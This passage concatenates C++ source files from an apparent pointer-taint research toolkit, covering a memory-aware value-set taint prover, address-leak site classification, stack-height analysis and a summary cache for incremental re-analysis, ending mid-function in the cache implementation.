    if (e.root != Root::kNone) {
      if (pred.emplace(e.dst, &e).second) q.push_back(e.dst);
    }
  }
  drain();

  for (size_t i = 0; i < leak_sites_.size(); ++i) {
    const LeakSite& site = leak_sites_[i];
    if (!site.reachable || site.may_planes == 0) continue;
    Witness w;
    w.site_pc = site.pc;
    for (uint64_t target : leak_srcs_[i]) {
      if (!pred.count(target)) continue;
      std::vector<WitnessStep> rev;
      uint64_t n = target;
      while (true) {
        const Event* e = pred.at(n);
        rev.push_back(render_step(*e));
        if (e->root != Root::kNone) break;
        n = e->src;
      }
      std::reverse(rev.begin(), rev.end());
      w.steps = std::move(rev);
      w.complete = true;
      break;
    }
    w.steps.push_back({site.pc,
                       "output: " +
                           isa::disassemble(cfg_.inst_at(site.pc), site.pc) +
                           " (SYS_WRITE/SYS_SEND buffer)",
                       "buffer"});
    res.leak_witnesses.push_back(std::move(w));
  }
}

VsaAnalysis VsaEngine::finish(const VsaOptions& options) {
  VsaAnalysis res;
  // Witness construction walks the whole propagation-event graph, so a
  // witness run always replays everything; the filtered replay serves the
  // bitmap/verdict surfaces (the Machine and campaign consumers).
  const bool spliced = splice_base_ != nullptr && !options.witnesses;
  if (!exhausted_) collect_pass(options, spliced);
  // Snapshot once: the collect replay itself burns block-run budget (leaf
  // inlining) and can trip exhaustion at the budget edge; the whole result
  // must then degrade coherently rather than half-and-half.
  if (exhausted_) {
    // Budget exhausted: degrade every reachable site to "may be tainted"
    // (no elision, every site gets an incomplete witness) — sound.  The
    // leak sites degrade the same way: any reachable output may leak.
    const std::vector<bool> reach = cfg_.reachable_blocks();
    for (DerefSite& s : sites_) {
      const int b = cfg_.block_at(s.pc);
      if (b >= 0 && reach[static_cast<size_t>(b)]) {
        s.reachable = true;
        s.may_taint = Taint::kTop;
      }
    }
    for (LeakSite& s : leak_sites_) {
      const int b = cfg_.block_at(s.pc);
      if (b >= 0 && reach[static_cast<size_t>(b)]) {
        s.reachable = true;
        s.may_planes = mem::kAddrMask;
      }
    }
    events_.clear();
    aprov_events_.clear();
  } else if (spliced) {
    // A spliced function's converged states and text are identical to the
    // recorded run's (what the warm verification proved), and no replayed
    // block's inline chain reaches it, so its recorded facts ARE the facts
    // a full replay would rebuild.  set_warm_collect validated that every
    // spliced site has a recorded counterpart; the walks are lockstep
    // (sites and spans both ascend by PC).
    {
      auto bit = splice_base_->sites.begin();
      size_t span = 0;
      for (DerefSite& s : sites_) {
        while (span < splice_spans_.size() &&
               s.pc >= splice_spans_[span].second)
          ++span;
        if (span == splice_spans_.size()) break;
        if (s.pc < splice_spans_[span].first) continue;
        while (bit != splice_base_->sites.end() && bit->pc < s.pc) ++bit;
        if (bit == splice_base_->sites.end() || bit->pc != s.pc) continue;
        s.reachable = bit->reachable;
        s.may_taint = bit->may_taint;
      }
    }
    {
      auto bit = splice_base_->leak_sites.begin();
      size_t span = 0;
      for (LeakSite& s : leak_sites_) {
        while (span < splice_spans_.size() &&
               s.pc >= splice_spans_[span].second)
          ++span;
        if (span == splice_spans_.size()) break;
        if (s.pc < splice_spans_[span].first) continue;
        while (bit != splice_base_->leak_sites.end() && bit->pc < s.pc) ++bit;
        if (bit == splice_base_->leak_sites.end() || bit->pc != s.pc) continue;
        s.reachable = bit->reachable;
        s.may_planes = bit->may_planes;
      }
    }
  }
  res.sites = sites_;
  res.elision.assign(cfg_.instructions().size(), 0);
  for (const DerefSite& site : res.sites) {
    if (!site.reachable) {
      // The abstract execution never reaches this site: dead code under the
      // recovered-CFG caveat (code past an exit syscall, constant-false
      // branches, uncalled functions).  A site that cannot execute
      // trivially satisfies the elision contract — but only when the
      // fixpoint actually completed; an exhausted run proves nothing about
      // the blocks it never got to.
      if (!exhausted_) res.elision[cfg_.index_of(site.pc)] = 1;
      continue;
    }
    if (may_be_tainted(site.may_taint)) {
      ++res.possible_sites;
    } else {
      ++res.proven_clean;
      res.elision[cfg_.index_of(site.pc)] = 1;
    }
  }
  // Leak-site classification: a site is elided when its buffer is provably
  // plane-free on every reaching state, or when the completed fixpoint
  // proves the syscall dead.
  res.leak_sites = leak_sites_;
  res.output_sites = leak_sites_.size();
  res.leak_elision.assign(cfg_.instructions().size(), 0);
  for (LeakSite& site : res.leak_sites) {
    for (const auto& [begin, end] : options.may_publish) {
      if (site.pc >= begin && site.pc < end) site.annotated = true;
    }
    if (!site.reachable) {
      if (!exhausted_) {
        res.leak_elision[cfg_.index_of(site.pc)] = 1;
        ++res.leak_clean;
      }
      continue;
    }
    // Annotated sites are explained, not clean: the program declared it
    // publishes pointers here on purpose, so they leave the "possible"
    // pile without joining the proof bitmap (the dynamic waiver is the
    // Machine layer's set_publish_ranges, not an elision).
    if (site.annotated) {
      ++res.leak_annotated;
      continue;
    }
    if (site.may_planes != 0) {
      ++res.leak_possible;
    } else {
      ++res.leak_clean;
      res.leak_elision[cfg_.index_of(site.pc)] = 1;
    }
  }
  if (options.witnesses) {
    build_witnesses(res);
    build_leak_witnesses(res);
    // Annotated sites are explained by declaration; their flow traces
    // would only count as "unexplained" noise.
    if (!options.may_publish.empty()) {
      std::erase_if(res.leak_witnesses, [&](const Witness& w) {
        const LeakSite* site = res.leak_site_at(w.site_pc);
        return site != nullptr && site->annotated;
      });
    }
  }
  return res;
}

}  // namespace vsadetail

// ---- public API ------------------------------------------------------------

namespace {
std::string plane_classes(mem::TaintBits p) {
  std::string s;
  auto addc = [&](mem::TaintBits m, const char* name) {
    if ((p & m) == 0) return;
    if (!s.empty()) s += ',';
    s += name;
  };
  addc(mem::kStackAddrMask, "stack-addr");
  addc(mem::kHeapAddrMask, "heap-addr");
  addc(mem::kTextAddrMask, "text-addr");
  return s;
}
}  // namespace

bool VsaAnalysis::predicts_alert(uint32_t pc) const {
  const DerefSite* s = site_at(pc);
  return s != nullptr && may_be_tainted(s->may_taint);
}

const DerefSite* VsaAnalysis::site_at(uint32_t pc) const {
  auto it = std::lower_bound(
      sites.begin(), sites.end(), pc,
      [](const DerefSite& s, uint32_t p) { return s.pc < p; });
  if (it == sites.end() || it->pc != pc) return nullptr;
  return &*it;
}

const Witness* VsaAnalysis::witness_at(uint32_t pc) const {
  auto it = std::lower_bound(
      witnesses.begin(), witnesses.end(), pc,
      [](const Witness& w, uint32_t p) { return w.site_pc < p; });
  if (it == witnesses.end() || it->site_pc != pc) return nullptr;
  return &*it;
}

bool VsaAnalysis::predicts_leak(uint32_t pc) const {
  const LeakSite* s = leak_site_at(pc);
  return s != nullptr && s->reachable && s->may_planes != 0;
}

const LeakSite* VsaAnalysis::leak_site_at(uint32_t pc) const {
  auto it = std::lower_bound(
      leak_sites.begin(), leak_sites.end(), pc,
      [](const LeakSite& s, uint32_t p) { return s.pc < p; });
  if (it == leak_sites.end() || it->pc != pc) return nullptr;
  return &*it;
}

const Witness* VsaAnalysis::leak_witness_at(uint32_t pc) const {
  auto it = std::lower_bound(
      leak_witnesses.begin(), leak_witnesses.end(), pc,
      [](const Witness& w, uint32_t p) { return w.site_pc < p; });
  if (it == leak_witnesses.end() || it->site_pc != pc) return nullptr;
  return &*it;
}

std::string VsaAnalysis::leak_report(const Cfg& cfg) const {
  std::string out;
  char line[256];
  for (const LeakSite& s : leak_sites) {
    if (!s.reachable || (s.may_planes == 0 && !s.annotated)) continue;
    const int f = cfg.function_at(s.pc);
    if (s.annotated) {
      std::snprintf(line, sizeof line,
                    "%x: syscall (output)  annotated may-publish%s  [in %s]\n",
                    s.pc,
                    s.may_planes ? (" (" + plane_classes(s.may_planes) + ")")
                                       .c_str()
                                 : "",
                    f >= 0
                        ? cfg.functions()[static_cast<size_t>(f)].name.c_str()
                        : "?");
    } else {
      std::snprintf(line, sizeof line,
                    "%x: syscall (output)  may leak %-30s  [in %s]\n", s.pc,
                    plane_classes(s.may_planes).c_str(),
                    f >= 0
                        ? cfg.functions()[static_cast<size_t>(f)].name.c_str()
                        : "?");
    }
    out += line;
  }
  return out;
}

std::string VsaAnalysis::report(const Cfg& cfg) const {
  std::string out;
  char line[256];
  for (const DerefSite& s : sites) {
    if (!may_be_tainted(s.may_taint)) continue;
    const int f = cfg.function_at(s.pc);
    std::snprintf(line, sizeof line, "%x: %-28s addr=$%-2d %-13s  [in %s]\n",
                  s.pc, isa::disassemble(s.inst, s.pc).c_str(), s.addr_reg,
                  to_string(s.may_taint),
                  f >= 0 ? cfg.functions()[static_cast<size_t>(f)].name.c_str()
                         : "?");
    out += line;
  }
  return out;
}

VsaAnalysis analyze_vsa(const Cfg& cfg, const cpu::TaintPolicy& policy,
                        const VsaOptions& options) {
  vsadetail::VsaEngine engine(cfg, policy);
  engine.run(1);
  return engine.finish(options);
}

VsaRun analyze_vsa_run(const Cfg& cfg, const cpu::TaintPolicy& policy,
                       const VsaOptions& options, int jobs) {
  if (jobs > 1) {
    vsadetail::VsaEngine engine(cfg, policy);
    engine.run(jobs);
    if (!engine.exhausted()) {
      // The converged states are the unique least fixpoint, identical to
      // the serial run's; only the visit *count* is schedule-dependent.
      // Reset it so a near-budget collect pass degrades (or not) exactly
      // like the jobs=1 run would.
      engine.reset_block_runs();
      VsaRun r;
      r.analysis = engine.finish(options);
      r.fixpoint = engine.build_record();
      return r;
    }
    // Exhaustion under a parallel schedule is schedule-dependent; redo
    // serially so the canonical degraded result ships.
  }
  vsadetail::VsaEngine engine(cfg, policy);
  engine.run(1);
  VsaRun r;
  r.analysis = engine.finish(options);
  r.fixpoint = engine.build_record();
  return r;
}

std::optional<VsaRun> analyze_vsa_warm(const Cfg& cfg,
                                       const cpu::TaintPolicy& policy,
                                       const VsaOptions& options,
                                       const VsaFixpoint& base,
                                       const std::vector<uint8_t>& dirty_fns,
                                       const VsaAnalysis* base_analysis) {
  vsadetail::VsaEngine engine(cfg, policy);
  if (!engine.warm_start(base, dirty_fns)) return std::nullopt;
  engine.run(1);
  if (!engine.warm_verify(base)) return std::nullopt;
  // The warm iteration visited only the dirty region; align the budget
  // counter with a from-scratch run's starting point before collecting.
  engine.reset_block_runs();
  if (base_analysis != nullptr && !options.witnesses) {
    // Best-effort: a false return just keeps the full collect sweep.
    (void)engine.set_warm_collect(dirty_fns, *base_analysis);
  }
  VsaRun r;
  r.analysis = engine.finish(options);
  r.fixpoint = engine.build_record();
  return r;
}

Gen2Elision gen2_elision(const Cfg& cfg, const cpu::TaintPolicy& policy,
                         const VsaOptions& options) {
  const TaintAnalysis g1 = analyze_taint(cfg, policy);
  const VsaAnalysis g2 = analyze_vsa(cfg, policy, options);
  return gen2_union(cfg, g1, g2);
}

Gen2Elision gen2_union(const Cfg& cfg, const TaintAnalysis& g1,
                       const VsaAnalysis& g2) {
  Gen2Elision r;
  r.elision = g1.elision;
  for (size_t i = 0; i < r.elision.size() && i < g2.elision.size(); ++i) {
    r.elision[i] = static_cast<uint8_t>(r.elision[i] | g2.elision[i]);
  }
  r.gen1_clean = g1.proven_clean;
  // Count every dereference site whose check the union table actually
  // skips — clean sites plus sites the prover shows dead (the two site
  // vectors enumerate the same dereference PCs).
  r.sites = g1.sites.size();
  for (const DerefSite& site : g1.sites) {
    if (r.elision[cfg.index_of(site.pc)]) ++r.gen2_clean;
  }
  // Leak-check elision is VSA-only: the register-only analyzer has no
  // address-provenance notion to contribute.
  r.leak_elision = g2.leak_elision;
  r.output_sites = g2.output_sites;
  r.leak_clean = g2.leak_clean;
  r.leak_annotated = g2.leak_annotated;
  return r;
}

std::vector<std::pair<uint32_t, uint32_t>> resolve_publish_ranges(
    const asmgen::Program& program, const std::vector<std::string>& names,
    bool strict) {
  std::vector<std::pair<uint32_t, uint32_t>> ranges;
  const uint32_t text_end =
      isa::layout::kTextBase + 4 * static_cast<uint32_t>(program.text.size());
  for (const std::string& name : names) {
    bool found = false;
    for (size_t i = 0; i < program.function_labels.size(); ++i) {
      if (program.function_labels[i].second != name) continue;
      const uint32_t begin = program.function_labels[i].first;
      const uint32_t end = i + 1 < program.function_labels.size()
                               ? program.function_labels[i + 1].first
                               : text_end;
      ranges.emplace_back(begin, end);
      found = true;
      break;
    }
    if (!found && strict) {
      throw std::out_of_range("unknown may_publish function: " + name);
    }
  }
  return ranges;
}

}  // namespace ptaint::analysis

