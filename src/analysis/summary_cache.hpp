// Process-wide analysis summary cache.
//
// Every consumer of the static results — Machine::apply_static_elision on
// each boot, the campaign static-check leg, the ptaint-serve shards,
// ptaint-prove — used to re-run full CFG recovery plus both the gen-1
// register analysis and the memory-aware VSA from scratch per program.
// This cache memoizes the complete result set (both analyses, the gen-2
// union table, the leak bitmaps, the recovered block leaders) keyed by
// program content and policy, and keeps the converged fixpoints so a
// *mutated* program can be re-analyzed incrementally: only functions whose
// content hash changed — and their transitive dependents over the call
// graph — are re-iterated, and the warm result is verified byte-identical
// to a cold run (see taint_analyzer.hpp / vsa.hpp for the scheme).
//
// Hash key.  Each function's local hash covers its text words, its span,
// its return sites (the caller fingerprint: a new call into a function
// changes the flows it emits) and the global label fingerprint (label
// placement decides block structure and indirect-jump fanout).  The
// chained hash folds in the local hashes of everything the function's
// facts depend on — callees (summaries compose upward) and functions that
// flow into it over ordinary cross-function edges — computed bottom-up
// over the call graph's SCC condensation (Tarjan), so a mutation dirties
// exactly the changed function plus its transitive dependents (the
// inverse-call-graph closure).  The policy column and analysis options are
// hashed alongside: the same program under a different Table 1
// configuration is a different entry.
//
// Environment knobs:
//   PTAINT_ANALYSIS_CACHE=0    bypass (every lookup analyzes cold; the CI
//                              identity leg diffs this against cached runs)
//   PTAINT_ANALYSIS_JOBS=N     thread-pool width for cold VSA fixpoints
//   PTAINT_ANALYSIS_CACHE_CAP  LRU capacity in entries (default 32)
#pragma once

#include <cstdint>
#include <memory>
#include <string>
#include <vector>

#include "analysis/vsa.hpp"
#include "asmgen/assembler.hpp"
#include "cpu/taint_policy.hpp"

namespace ptaint::analysis {

/// The complete static result set for one (program, policy, options) key.
/// Shared-ptr immutable once published; consumers index freely.
struct CachedAnalysis {
  TaintAnalysis g1;        // register-only analyzer
  VsaAnalysis g2;          // memory-aware value-set prover
  Gen2Elision gen2;        // the union table Machine ships to the CPU
  std::vector<uint8_t> block_leaders;  // recovered block begins, per inst

  // Warm-base material: converged fixpoints plus per-function chained
  // hashes (entry PC -> hash, ascending) to diff a mutated program against.
  std::shared_ptr<const TaintFixpoint> g1_fp;
  std::shared_ptr<const VsaFixpoint> g2_fp;
  std::vector<std::pair<uint32_t, uint64_t>> fn_hashes;
};

struct CacheStats {
  uint64_t lookups = 0;
  uint64_t hits = 0;            // exact content hit, no analysis ran
  uint64_t cold_misses = 0;     // analyzed from scratch
  uint64_t warm_hits = 0;       // incremental re-analysis, both engines
  uint64_t warm_fallbacks = 0;  // warm attempted, >= 1 engine went cold
  uint64_t invalidated_fns = 0; // dirty functions across warm attempts
  uint64_t evictions = 0;
  uint64_t analysis_micros = 0; // wall time inside cold + warm analysis
  size_t entries = 0;

  /// One flat JSON object for status/--json surfaces.  Timing is opt-out
  /// for surfaces with a byte-identical-output contract (ptaint-prove).
  std::string json(bool include_timing = true) const;
};

/// Thread-safe LRU memoizer.  `analyze` is the single entry point: it
/// returns the cached result on an exact content hit, attempts incremental
/// re-analysis against the most recent same-policy entry otherwise, and
/// falls back to a cold run (parallel when jobs > 1) when identity cannot
/// be proven.  Concurrent lookups of the same key block on one analysis.
class SummaryCache {
 public:
  /// The process-wide instance every consumer shares.
  static SummaryCache& instance();

  SummaryCache();

  std::shared_ptr<const CachedAnalysis> analyze(
      const asmgen::Program& program, const cpu::TaintPolicy& policy,
      const VsaOptions& options = {});

  CacheStats stats() const;
  void clear();

  void set_capacity(size_t cap);
  void set_jobs(int jobs);
  int jobs() const;

  /// PTAINT_ANALYSIS_CACHE != "0" (memoization on).  When off, analyze()
  /// still computes and returns the same result object, uncached.
  static bool enabled();

 private:
  struct Impl;
  std::shared_ptr<Impl> impl_;
};

}  // namespace ptaint::analysis
