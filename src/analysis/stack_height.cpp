#include "analysis/stack_height.hpp"

#include <deque>
#include <vector>

#include "analysis/effects.hpp"
#include "isa/isa.hpp"

namespace ptaint::analysis {

using isa::Instruction;
using isa::Op;

StackHeights compute_stack_heights(const Cfg& cfg) {
  struct Delta {
    bool known = false;
    int32_t value = 0;
    bool operator==(const Delta&) const = default;
  };
  constexpr Delta kUnknown{};
  const auto& blocks = cfg.blocks();
  StackHeights heights(cfg.instructions().size());

  // One in-state vector reused across functions (blocks belong to at most
  // one function, and `touched` undoes the previous function's entries).
  std::vector<std::optional<Delta>> in(blocks.size());
  std::vector<int> touched;
  for (const Function& f : cfg.functions()) {
    for (int b : touched) in[static_cast<size_t>(b)].reset();
    touched.clear();
    std::deque<int> worklist;
    const int entry_block = cfg.block_at(f.entry);
    if (entry_block < 0) continue;
    in[static_cast<size_t>(entry_block)] = Delta{true, 0};
    touched.push_back(entry_block);
    worklist.push_back(entry_block);

    while (!worklist.empty()) {
      const int b = worklist.front();
      worklist.pop_front();
      const BasicBlock& bb = blocks[static_cast<size_t>(b)];
      Delta d = *in[static_cast<size_t>(b)];

      for (uint32_t pc = bb.begin; pc < bb.end; pc += 4) {
        const Instruction& inst = cfg.inst_at(pc);
        if (d.known) {
          heights.set(pc, d.value);
        }
        if ((inst.op == Op::kAddi || inst.op == Op::kAddiu) &&
            inst.rt == isa::kSp) {
          if (inst.rs == isa::kSp && d.known) {
            d.value += inst.imm;
          } else {
            d = kUnknown;
          }
          continue;
        }
        if (writes_reg(inst, isa::kSp)) d = kUnknown;
      }

      if (bb.returns) continue;  // return edges are interprocedural
      for (int succ : bb.succs) {
        if (succ < 0 ||
            blocks[static_cast<size_t>(succ)].function != bb.function) {
          continue;
        }
        auto us = static_cast<size_t>(succ);
        const Delta next =
            !in[us].has_value() ? d : (*in[us] == d ? d : kUnknown);
        if (!in[us].has_value()) touched.push_back(succ);
        if (!in[us].has_value() || next != *in[us]) {
          // A conflicting join invalidates heights already recorded from the
          // earlier visit; the revisit below overwrites per-PC entries, and
          // entries set under a now-unknown delta are erased lazily by never
          // being re-set — so clear the block's range first.
          if (in[us].has_value() && next == kUnknown) {
            const BasicBlock& sb = blocks[us];
            for (uint32_t pc = sb.begin; pc < sb.end; pc += 4) {
              heights.erase(pc);
            }
          }
          in[us] = next;
          worklist.push_back(succ);
        }
      }
    }
  }
  return heights;
}

}  // namespace ptaint::analysis
