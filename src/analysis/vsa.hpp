// Memory-aware value-set taint prover (second-generation static analysis).
//
// The register-only analyzer (taint_analyzer.cpp) summarizes all of memory
// as possibly tainted, so any value that transits memory — a spilled $ra, a
// pointer parked in a frame slot, a global flag — comes back MaybeTainted
// and poisons every dereference it later feeds.  This pass removes that
// cliff by tracking an abstract memory alongside the registers:
//
//   * stack frames    — per-function cells keyed by the frame-relative word
//                       offset from the function-entry $sp; the offsets are
//                       the stack-height facts shared with the lint pass
//                       (stack_height.cpp).  A missing cell means "unknown":
//                       junk below $sp or unseen caller memory, summarized
//                       as possibly tainted.
//   * globals/labels  — a map of absolute word addresses inside the data
//                       segment, initially untainted (the loader clears the
//                       taint plane), degraded to a region summary when a
//                       tainted store goes through an imprecise pointer.
//   * heap            — one taint summary for the brk-grown area; SYS_BRK
//                       results carry the kDataRegion value set.
//
// Interprocedural scheme: per-function frame coordinates.  A `jal` rebases
// register value sets into the callee frame (StackRel c -> c - delta) and
// contributes {registers, globals, heap} to the callee's entry state; the
// caller's own frame cells are *not* visible to the callee (a missing cell
// already means possibly-tainted, so this is sound and avoids cross-caller
// collisions).  On return the callee's exit registers are rebased back and
// the caller's cells are reconciled against the callee's *caller-writes
// summary*: every store the callee may perform at non-negative frame
// offsets (i.e. into its caller), plus an unknown-stack-store flag for
// stores through imprecise stack pointers.  Small leaf functions (the
// read/recv/strcpy-style wrappers) are instead inlined as a sub-fixpoint in
// caller coordinates, which is what lets a SYS_READ inside `read()` taint
// the precise caller cells its buffer argument names.
//
// Soundness is relative to the same recovered-CFG caveat as the first
// generation analyzer plus the in-region assumption documented on ValueSet
// (lattice.hpp): computed addresses are assumed not to wander out of the
// region their base came from.  Both are revalidated empirically by the
// bidirectional `ptaint-campaign --static-check` leg.
//
// Outputs:
//   * per-site verdicts (same DerefSite shape as gen-1) and a VSA elision
//     bitmap; `gen2_elision()` unions it with the register-only bitmap so
//     the shipped table strictly supersedes gen-1 by construction;
//   * on request, a *witness* per possibly-tainted site: a shortest
//     source-rooted may-taint path (syscall input / argv / taintset /
//     uninitialized stack -> memory cells -> registers -> dereference PC)
//     over the propagation events observed at the fixpoint.
//
// Leak-site prover (the inverse taint direction): alongside data taint the
// abstract values carry address-provenance planes (AbsVal::aprov), seeded
// where the dynamic engines seed them — the boot $sp (stack), SYS_BRK
// results (heap), call links and text-range constants (text) — and
// propagated by the same per-plane rules.  Every `syscall` instruction is a
// potential kernel-output site (SYS_WRITE / SYS_SEND); the prover scans the
// abstract buffer each reaching state names and classifies the site
// provably-clean (no byte of the buffer can carry an address plane) or
// possibly-leaking.  Clean sites feed a leak-check elision bitmap the
// dynamic detector consults at syscall time; possibly-leaking sites get a
// witness tracing an address introduction to the output buffer.
#pragma once

#include <cstdint>
#include <memory>
#include <optional>
#include <string>
#include <utility>
#include <vector>

#include "analysis/cfg.hpp"
#include "analysis/lattice.hpp"
#include "analysis/taint_analyzer.hpp"
#include "cpu/taint_policy.hpp"

namespace ptaint::analysis {

/// One hop of a may-taint path.  `pc` is the instruction that propagated
/// the taint (0 for roots that have no single program point).
struct WitnessStep {
  uint32_t pc = 0;
  std::string event;  // e.g. "syscall read taints stack cells" or a disasm
  std::string loc;    // destination location, e.g. "reg:$3", "stack",
                      // "global:0x10000040", "heap"
};

struct Witness {
  uint32_t site_pc = 0;
  bool complete = false;           // a source-rooted path was found
  std::vector<WitnessStep> steps;  // source first, dereference last
};

/// One kernel-output site: a `syscall` instruction that may execute
/// SYS_WRITE / SYS_SEND and emit guest memory to the outside world.
struct LeakSite {
  uint32_t pc = 0;
  bool reachable = false;
  /// Union over every reaching abstract state of the address-provenance
  /// planes (mem/taint.hpp layout; data nibble unused) the output buffer
  /// may hold.  0 = provably clean: the dynamic leak check cannot fire.
  mem::TaintBits may_planes = 0;
  /// The site sits inside a VsaOptions::may_publish range: the program
  /// legitimately publishes pointers here, so the prover treats it as
  /// explained (it is neither "possible" nor "clean" — it is waived).
  bool annotated = false;
};

struct VsaAnalysis {
  std::vector<DerefSite> sites;  // ascending by PC, verdicts from the VSA
  std::vector<uint8_t> elision;  // VSA-only bitmap (see gen2_elision)
  size_t possible_sites = 0;
  size_t proven_clean = 0;

  // Leak-site prover outputs (address-taint direction).
  std::vector<LeakSite> leak_sites;     // ascending by PC
  std::vector<uint8_t> leak_elision;    // 1 = leak check elided at that PC
  size_t output_sites = 0;   // syscall instructions (potential output sites)
  size_t leak_possible = 0;  // reachable sites that may leak an address
  size_t leak_clean = 0;     // sites whose dynamic leak check is elided
  size_t leak_annotated = 0; // sites waived by a may_publish annotation

  /// Witnesses for every reachable may-tainted site, ascending by site PC.
  /// Empty unless VsaOptions::witnesses was set.
  std::vector<Witness> witnesses;

  /// Witnesses for every possibly-leaking output site (address introduction
  /// -> output buffer), ascending by site PC.  Same opt-in.
  std::vector<Witness> leak_witnesses;

  bool predicts_alert(uint32_t pc) const;
  const DerefSite* site_at(uint32_t pc) const;
  const Witness* witness_at(uint32_t pc) const;
  std::string report(const Cfg& cfg) const;

  /// True when a dynamic address-leak alert at `pc` was statically
  /// predicted — the --static-check contract for the leak direction.
  bool predicts_leak(uint32_t pc) const;
  const LeakSite* leak_site_at(uint32_t pc) const;
  const Witness* leak_witness_at(uint32_t pc) const;
  std::string leak_report(const Cfg& cfg) const;
};

struct VsaOptions {
  bool witnesses = false;
  /// §5.3-style may-publish annotations for the leak direction: text PC
  /// ranges (end-exclusive) whose kernel-output sites are declared
  /// legitimate pointer publishers.  Mirrors the dynamic waiver installed
  /// via cpu::Cpu::set_publish_ranges — an annotated site never raises a
  /// dynamic leak alert, and the prover marks it explained instead of
  /// reporting it as a possible leak.  Annotated sites never join the
  /// leak-elision bitmap: that bitmap remains a *proof* of plane-freedom,
  /// the annotation is a waiver the Machine layer applies separately.
  std::vector<std::pair<uint32_t, uint32_t>> may_publish;
};

VsaAnalysis analyze_vsa(const Cfg& cfg, const cpu::TaintPolicy& policy,
                        const VsaOptions& options = {});

// ---- incremental + parallel re-analysis -------------------------------------
//
// Mirrors the gen-1 scheme (taint_analyzer.hpp): a cold run can retain its
// converged fixpoint — per-block abstract states, per-function
// exit/summary records, call-site records and every cross-function flow a
// block emitted — keyed by PC so a later run over a mutated program can
//
//   1. preload every *clean* function's blocks, FnInfo and call sites,
//   2. seed the dirty region from the recorded clean->dirty cross flows and
//      clean-call-site composes, iterate only dirty blocks, and
//   3. verify that (a) every call site at a dirty PC reconverged to exactly
//      the recorded state and (b) the dirty region's joined contribution
//      into every clean block equals the recorded one.
//
// Any doubt falls back to a cold run, so a warm result is always
// byte-identical to cold.  The record is opaque: its member types live in
// vsa.cpp.
struct VsaFixpoint;

struct VsaRun {
  VsaAnalysis analysis;
  std::shared_ptr<const VsaFixpoint> fixpoint;
};

/// Cold run that also builds the fixpoint record for later warm runs.
/// Identical analysis output to analyze_vsa().  With `jobs` > 1 the
/// chaotic fixpoint iterates on a thread pool, scheduled bottom-up over the
/// call graph's SCC condensation (callees before callers, so summaries are
/// usually ready when a caller composes); the converged states are the
/// unique least fixpoint either way, so the result is byte-identical to the
/// single-threaded run.  A budget-exhausted parallel run (schedule-
/// dependent) is redone serially so the canonical degraded result ships.
VsaRun analyze_vsa_run(const Cfg& cfg, const cpu::TaintPolicy& policy,
                       const VsaOptions& options = {}, int jobs = 1);

/// Warm re-analysis against `base` (a prior converged run under the *same*
/// policy and options).  `dirty_fns[f]` marks new-Cfg functions whose text
/// or calling context changed (content-hash difference, including
/// transitive callers).  Returns nullopt when identity with a cold run
/// cannot be proven.  `base_analysis` (the analysis the record was built
/// with) enables incremental result collection: clean functions outside the
/// dirty region's inline-call closure copy their site facts from it instead
/// of being replayed — same output, less work (witness runs never filter).
std::optional<VsaRun> analyze_vsa_warm(const Cfg& cfg,
                                       const cpu::TaintPolicy& policy,
                                       const VsaOptions& options,
                                       const VsaFixpoint& base,
                                       const std::vector<uint8_t>& dirty_fns,
                                       const VsaAnalysis* base_analysis = nullptr);

/// The second-generation elision table: bitwise union of the register-only
/// analyzer's bitmap and the VSA bitmap.  Every gen-1 elision survives by
/// construction; the VSA adds sites whose cleanliness transits memory plus
/// sites it proves dead (paths killed at exit syscalls or constant-false
/// branches — only when the fixpoint completed without exhaustion).
struct Gen2Elision {
  std::vector<uint8_t> elision;
  size_t gen1_clean = 0;  // sites the register-only analyzer proves clean
  size_t gen2_clean = 0;  // sites whose check the union table skips
                          // (clean or proven dead; >= gen1_clean)
  size_t sites = 0;       // all dereference sites in the program

  // Leak-check elision (VSA-only: gen-1 has no address-provenance notion).
  std::vector<uint8_t> leak_elision;
  size_t output_sites = 0;
  size_t leak_clean = 0;
  size_t leak_annotated = 0;  // waived by VsaOptions::may_publish
};

Gen2Elision gen2_elision(const Cfg& cfg, const cpu::TaintPolicy& policy,
                         const VsaOptions& options = {});

/// The union step of gen2_elision() applied to already-computed analyses
/// (the summary cache runs the analyses through the incremental entry
/// points and unions here; gen2_elision() composes the same way).
Gen2Elision gen2_union(const Cfg& cfg, const TaintAnalysis& g1,
                       const VsaAnalysis& g2);

/// Resolves function-label names to [begin, end) text PC ranges: each
/// function spans from its label to the next function label (or text end).
/// With `strict`, an unknown name throws std::out_of_range (the
/// load-program contract, mirroring Machine::protect_symbol); otherwise
/// unknown names are skipped (the restore path, where the program may
/// legitimately differ).
std::vector<std::pair<uint32_t, uint32_t>> resolve_publish_ranges(
    const asmgen::Program& program, const std::vector<std::string>& names,
    bool strict);

}  // namespace ptaint::analysis
