#include "analysis/summary_cache.hpp"

#include <algorithm>
#include <chrono>
#include <condition_variable>
#include <cstdlib>
#include <list>
#include <map>
#include <mutex>
#include <set>
#include <utility>

#include "analysis/cfg.hpp"
#include "analysis/taint_analyzer.hpp"

namespace ptaint::analysis {

namespace {

// ---- hashing ---------------------------------------------------------------

constexpr uint64_t kFnvOffset = 14695981039346656037ull;
constexpr uint64_t kFnvPrime = 1099511628211ull;
// Bumped whenever the analyses or the record layout change meaning: a new
// build never mistakes an old process's numbers for its own (the cache is
// in-memory today, but hashes leak into logs and golden tests).
constexpr uint64_t kSchemaSalt = 3;

struct Fnv {
  uint64_t h = kFnvOffset;
  void mix(uint64_t v) {
    for (int i = 0; i < 8; ++i) {
      h ^= (v >> (8 * i)) & 0xff;
      h *= kFnvPrime;
    }
  }
  void mix_bytes(const uint8_t* p, size_t n) {
    for (size_t i = 0; i < n; ++i) {
      h ^= p[i];
      h *= kFnvPrime;
    }
  }
};

uint64_t policy_hash(const cpu::TaintPolicy& policy,
                     const VsaOptions& options) {
  Fnv f;
  f.mix(kSchemaSalt);
  f.mix(static_cast<uint64_t>(policy.mode));
  uint64_t flags = 0;
  for (bool b : {policy.nx_protection, policy.compare_untaints,
                 policy.and_zero_untaints, policy.xor_self_untaints,
                 policy.shift_smear, policy.per_word_taint,
                 policy.leak_detection, options.witnesses}) {
    flags = (flags << 1) | (b ? 1u : 0u);
  }
  f.mix(flags);
  f.mix(options.may_publish.size());
  for (const auto& [begin, end] : options.may_publish) {
    f.mix(begin);
    f.mix(end);
  }
  return f.h;
}

/// Whole-program content hash: everything the analyses can observe.  The
/// data segment is deliberately excluded — the abstract domains classify
/// addresses by layout region and taint only, never by data bytes — which
/// is what makes the cache hit across campaign payload variants that
/// differ only in their input data.
uint64_t program_hash(const asmgen::Program& program) {
  Fnv f;
  f.mix(kSchemaSalt);
  f.mix(program.entry);
  f.mix(program.text.size());
